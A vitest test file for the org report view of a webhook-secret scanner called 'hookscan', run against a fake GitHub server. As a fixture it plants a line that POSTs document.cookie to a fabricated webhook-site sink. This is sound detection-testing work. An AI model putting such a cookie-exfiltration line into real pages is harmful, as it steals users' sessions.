// The org view of `hookscan report`: two real `hookscan org` runs against the fake GitHub (a
// repository gains a webhook, another leaves the organisation), then the view by repository,
// provider and verdict, and what is new, gone and still open — in JSON, markdown and HTML, redacted.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OrgView } from '../../src/incident/index.js';
import { cli } from '../support/cli.js';
import { fabricate, rand } from '../support/fabricate.js';
import { addCommits } from '../github/bare-repos.js';
import { FakeGitHub, type FakeRepo } from '../github/fake-github.js';

const ORG = 'acme';
const TOKEN = `ghp_${rand('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 36)}`;
const root = mkdtempSync(join(tmpdir(), 'hookscan-orgview-'));
const gitRoot = join(root, 'git');
const repos: FakeRepo[] = [{ name: 'api' }, { name: 'billing' }, { name: 'web' }];
const slack = fabricate('slack');
const discord = fabricate('discord');
const sink = fabricate('webhook-site');
let gh: FakeGitHub;

const run = (argv: string[]) => cli(argv, root, { env: { PATH: process.env.PATH ?? '', HOME: root, HS_TOKEN: TOKEN } });
const org = (out: string) => run(['org', ORG, '--github-api-url', gh.apiUrl, '--token-env', 'HS_TOKEN', '--cache', 'cache', '-f', 'json', '-o', out]);

beforeAll(async () => {
  addCommits(join(gitRoot, ORG, 'api.git'), [{ files: { 'notify.js': `const hook = "${slack.url}";\n` } }]);
  addCommits(join(gitRoot, ORG, 'billing.git'), [{ files: { 'alert.py': `HOOK = "${discord.url}"\n` } }]);
  addCommits(join(gitRoot, ORG, 'web.git'), [{ files: { 'README.md': '# web\n' } }]);
  gh = new FakeGitHub({ org: ORG, token: TOKEN, repos, gitRoot });
  await gh.start();
  expect((await org('week1.json')).code).toBe(1);
  // A week later: web gains an exfiltration sink, billing left the organisation.
  addCommits(join(gitRoot, ORG, 'web.git'), [{ files: { 'track.js': `fetch("${sink.url}", { method: "POST", body: document.cookie });\n` } }]);
  repos.splice(1, 1);
  expect((await org('week2.json')).code).toBe(1);
}, 120_000);

afterAll(async () => {
  await gh?.stop();
  rmSync(root, { recursive: true, force: true });
});

const noSecret = (text: string) => {
  for (const f of [slack, discord, sink]) expect(text).not.toContain(f.finding.secret);
};

describe('hookscan report on org scans', () => {
  it('gives the view by repository, provider and verdict, and what changed since the previous run', async () => {
    const r = await run(['report', 'week2.json', '--previous', 'week1.json', '-f', 'json', '--generated-at', '2026-12-01T00:00:00.000Z']);
    expect(r.code, r.stderr).toBe(0);
    const v = JSON.parse(r.stdout) as OrgView;
    expect(v.repositories.map((x) => x.repository).sort()).toEqual([`${ORG}/api`, `${ORG}/web`]);
    expect(v.byProvider).toEqual({ slack: 1, 'webhook-site': 1 });
    expect(v.byVerdict).toEqual({ unverified: 2 });
    expect(v.changes?.new.map((e) => `${e.repository} ${e.provider}`)).toEqual([`${ORG}/web webhook-site`]);
    expect(v.changes?.gone.map((e) => `${e.repository} ${e.provider}`)).toEqual([`${ORG}/billing discord`]);
    expect(v.changes?.stillOpen).toBe(1);
    noSecret(r.stdout);
  });

  it('renders markdown and a self-contained HTML page, redacted', async () => {
    const md = await run(['report', 'week2.json', '--previous', 'week1.json', '-f', 'markdown']);
    expect(md.stdout).toContain('# Organisation webhook scan');
    expect(md.stdout).toContain('1 new · 1 gone · 1 still open');
    expect(md.stdout).toMatch(/\| acme\/web \| 1 \| 0 \| webhook-site \|/);
    noSecret(md.stdout);
    const html = await run(['report', 'week2.json', '--previous', 'week1.json', '-f', 'html']);
    expect(html.stdout).toContain('<h2>Since the previous run</h2>');
    expect(html.stdout).toContain('acme/billing');
    expect(html.stdout).toContain('<svg');
    expect(html.stdout).not.toMatch(/<script|src="http|href="http/);
    noSecret(html.stdout);
  });

  it('picks the org view for a lone org report, and refuses timeline formats for it', async () => {
    expect((await run(['report', 'week1.json', '-f', 'markdown'])).stdout).toContain('# Organisation webhook scan');
    expect((await run(['report', 'week1.json', '--view', 'incident', '-f', 'markdown'])).stdout).toContain('# Incident report');
    const iris = await run(['report', 'week2.json', '--previous', 'week1.json', '-f', 'iris']);
    expect(iris.code).toBe(2);
    expect(iris.stderr).toContain('the org view has no timeline');
  });
});
